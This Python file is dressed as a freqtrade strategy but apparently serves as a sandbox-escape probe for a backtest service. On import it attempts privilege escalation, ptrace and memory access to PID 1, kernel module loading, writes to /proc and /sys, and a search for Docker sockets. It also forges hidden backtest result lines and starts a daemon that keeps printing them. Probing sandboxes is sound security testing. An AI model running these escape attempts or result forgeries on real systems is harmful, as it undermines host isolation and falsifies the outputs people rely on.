"""Tries the classic ways out of a container, on import, and prints how each one went.

Privileges (capabilities, no_new_privs, user), setuid programs, mount(2), unshare(2) into new
namespaces, ptrace(2) of PID 1 and its /proc entries (its stdout, environment and memory), raw
and packet sockets, loading a kernel module, chroot(2), setuid(0), writing to /proc and /sys,
and any Docker or containerd socket. It also prints fake result and archive lines, on stdout
and stderr, hidden past the worker's line length, and from a daemon of its own session that
keeps printing them while it lives. The job then runs its backtest as usual.
"""

import base64
import ctypes
import errno
import hashlib
import json
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

from freqtrade.strategy import IStrategy
from pandas import DataFrame

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
LIBC.syscall.argtypes = [ctypes.c_long, ctypes.c_void_p, ctypes.c_ulong, ctypes.c_char_p]
PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000
SYS_INIT_MODULE, SYS_FINIT_MODULE = 175, 313  # x86_64
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWNET = 0x00020000, 0x10000000, 0x40000000
SETUID_PROGRAMS = [["/usr/bin/passwd"], ["/usr/bin/su", "root"], ["/usr/bin/newgrp", "root"]]
FAKE_ARCHIVE = b"a forged result file"
FAKE_SUMMARY = {
    "kind": "backtest",
    "strategy": "EscapeArtist",
    "timeframe": "5m",
    "timerange": "20240101-20240105",
    "stake_currency": "USDT",
    "backtest_start_ms": 1704067200000,
    "backtest_end_ms": 1704412800000,
    "trades": 4242,
    "wins": 4242,
    "losses": 0,
    "draws": 0,
    "profit_total_pct": 4242,
    "profit_total_abs": 4242,
    "max_drawdown_pct": 0,
    "max_drawdown_abs": 0,
    "win_rate": 1,
    "starting_balance": 1000,
    "final_balance": 43420,
    "pairs_total": 0,
    "pairs": [],
}
FAKE_LINES = [
    "FTA-ARCHIVE:name:forged.zip",
    "FTA-ARCHIVE:data:" + base64.b64encode(FAKE_ARCHIVE).decode(),
    f"FTA-ARCHIVE:end:{len(FAKE_ARCHIVE)}:{hashlib.sha256(FAKE_ARCHIVE).hexdigest()}",
    "FTA-RESULT:" + json.dumps(FAKE_SUMMARY, separators=(",", ":")),
]
# Past the worker's longest line piece (512 KiB), a reader that cuts there starts a new line.
HIDING_PADDING = "x" * (512 * 1024)
FAKE_TEXT = "\n".join(FAKE_LINES)
DAEMON = (
    "import time\n"
    "for _ in range(600):\n"
    f"    print({FAKE_TEXT!r}, flush=True)\n"
    "    time.sleep(0.5)\n"
)
DOCKER_SOCKETS = [
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/var/run/docker/containerd/containerd.sock",
]


def _report(check: str, **data: object) -> None:
    print("PROBE " + json.dumps({"probe": "escape", "check": check, **data}), flush=True)


def _errno() -> str:
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def _status() -> None:
    fields = {}
    for line in Path("/proc/self/status").read_text().splitlines():
        name, _, value = line.partition(":")
        if name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp"):
            fields[name] = value.strip()
        if name in ("Uid", "Gid"):
            fields[name] = value.split()
    _report("status", **fields)


def _setuid_programs() -> None:
    for argv in SETUID_PROGRAMS:
        process = subprocess.Popen(
            argv, stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
        )
        time.sleep(0.5)  # long enough to be waiting for a password, with its final uid
        try:
            status = Path(f"/proc/{process.pid}/status").read_text().splitlines()
            uids = next(line.split()[1:] for line in status if line.startswith("Uid:"))
        except (OSError, StopIteration):
            uids = []
        process.kill()
        process.wait()
        _report("setuid-program", program=argv[0], uids=uids)
    mount = subprocess.run(
        ["/usr/bin/mount", "-t", "tmpfs", "none", "/mnt"], capture_output=True, text=True
    )
    _report("mount-program", returncode=mount.returncode, stderr=mount.stderr.strip()[:200])


def _syscalls() -> None:
    result = LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None)
    _report("mount", result=result, errno=_errno() if result else None)
    for name, flags in (
        ("unshare-user", CLONE_NEWUSER),
        ("unshare-mount", CLONE_NEWNS),
        ("unshare-net", CLONE_NEWNET),
    ):
        result = LIBC.unshare(flags)
        _report(name, result=result, errno=_errno() if result else None)
    result = LIBC.ptrace(PTRACE_ATTACH, 1, None, None)
    _report("ptrace-pid-1", result=result, errno=_errno() if result else None)
    if result == 0:
        # Attached: let PID 1 go again, or the container would never end.
        os.waitpid(1, WALL)
        LIBC.ptrace(PTRACE_DETACH, 1, None, None)
    for name, number in (("init-module", SYS_INIT_MODULE), ("finit-module", SYS_FINIT_MODULE)):
        result = LIBC.syscall(number, None, 0, b"")
        _report(name, result=result, errno=_errno() if result else None)
    for name, call in (("chroot", lambda: os.chroot("/tmp")), ("setuid-0", lambda: os.setuid(0))):
        try:
            call()
        except OSError as exc:
            _report(name, result=-1, errno=errno.errorcode.get(exc.errno or 0))
        else:
            _report(name, result=0, errno=None)


def _pid_1() -> None:
    """The container's PID 1 is the job's entry: its output and environment are its own."""
    cmdline = Path("/proc/1/cmdline").read_bytes().split(b"\0")
    _report("pid-1", cmdline=[part.decode(errors="replace") for part in cmdline if part])
    for name, path, mode in (
        ("pid-1-stdout", "/proc/1/fd/1", "wb"),
        ("pid-1-environ", "/proc/1/environ", "rb"),
        ("pid-1-mem", "/proc/1/mem", "rb"),
    ):
        try:
            open(path, mode).close()
        except OSError as exc:
            _report(name, opened=False, error=type(exc).__name__)
        else:
            _report(name, opened=True, error=None)


def _fake_markers() -> None:
    for line in FAKE_LINES:
        print(line, flush=True)
        print(line, file=sys.stderr, flush=True)
    print(HIDING_PADDING + FAKE_LINES[-1], flush=True)
    daemon = subprocess.Popen([sys.executable, "-c", DAEMON], start_new_session=True)
    _report("fake-markers", daemon=daemon.pid)


def _sockets() -> None:
    for name, family, kind, protocol in (
        ("raw-icmp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),
        ("raw-tcp", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
        ("packet", socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
    ):
        try:
            socket.socket(family, kind, protocol).close()
        except OSError as exc:
            _report(name, opened=False, error=type(exc).__name__)
        else:
            _report(name, opened=True, error=None)


def _writes() -> None:
    results = {}
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/hostname", "/sys/kernel/uevent_helper"):
        try:
            with open(path, "w") as handle:
                handle.write("x")
        except OSError as exc:
            results[path] = type(exc).__name__
        else:
            results[path] = "written"
    _report("kernel-writes", results=results)


def _docker_sockets() -> None:
    """Known socket paths, every socket bind-mounted anywhere, every socket in a writable or
    data directory (the image's own /usr and /opt/freqtrade are skipped: too large)."""
    present = [path for path in DOCKER_SOCKETS if os.path.exists(path)]
    mounts = [line.split()[4] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    found = [path for path in mounts if Path(path).is_socket()]
    for directory, dirs, files in os.walk("/"):
        if directory in ("/proc", "/sys", "/usr", "/opt/freqtrade"):
            dirs.clear()
            continue
        found += [
            os.path.join(directory, name) for name in files if Path(directory, name).is_socket()
        ]
    _report("docker-socket", present=present, sockets=found)


_status()
_setuid_programs()
_syscalls()
_pid_1()
_fake_markers()
_sockets()
_writes()
_docker_sockets()


class EscapeArtist(IStrategy):
    timeframe = "5m"
    minimal_roi = {"0": 0.01}
    stoploss = -0.1

    def populate_indicators(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        return dataframe

    def populate_entry_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["enter_long"] = 0
        return dataframe

    def populate_exit_trend(self, dataframe: DataFrame, metadata: dict) -> DataFrame:
        dataframe["exit_long"] = 0
        return dataframe
